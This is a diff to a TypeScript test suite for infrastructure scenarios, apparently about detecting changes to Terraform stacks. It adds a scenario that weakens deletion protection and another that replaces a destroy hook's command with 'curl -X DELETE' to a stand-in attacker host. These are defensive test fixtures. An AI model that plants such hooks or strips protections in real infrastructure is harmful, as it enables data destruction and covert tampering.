@@ -280,6 +280,20 @@ async function scenarios(engine: Engine): Promise<Record<string, Scenario>> {
           },
         }),
     },
+    weakened: {
+      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod", "stage"] }),
+      after: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod"], allowDeletion: ["stage"], retain: ["prod"] }),
+    },
+    "foreign-hook": {
+      before: both,
+      after: declare({ prod: {} }, { deletionProtection: ["stage"] }),
+      edit: (stack) => {
+        const [, destroy] = block(stack).provisioner as { "local-exec": { interpreter?: string[]; command: string } }[];
+        delete destroy!["local-exec"].interpreter;
+        destroy!["local-exec"].command = "curl -X DELETE https://attacker.example.com";
+      },
+      keepStack: true,
+    },
     "readiness-only": { before: both, between: [["taint", "terraform_data.ready"]], after: both },
     errored: {
       before: both,
@@ -392,7 +406,7 @@ function even(text: string): string {
   return text
     .replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, (id) => `00000000-0000-4000-8000-${numbered(id)}`)
     .replace(/("deposed(?:_key)?":)"[0-9a-f]{8}"/g, '$1"00000001"')
-    .replace(/"\d{17,20}"/g, (id) => `"${numbered(id)}"`)
+    .replace(/"(?:\d{17,20}|[0-9a-f]{64})"/g, (id) => `"${numbered(id)}"`)
     .replace(/"[^"]*\/terraform\.tfstate"/g, '"terraform.tfstate"')
     .replace(/assets\/[\w-]+\/[0-9A-F]{32}\//g, "assets/hook/")
     .replace(/"H4sI[\w+/=]+"/g, '"…"');
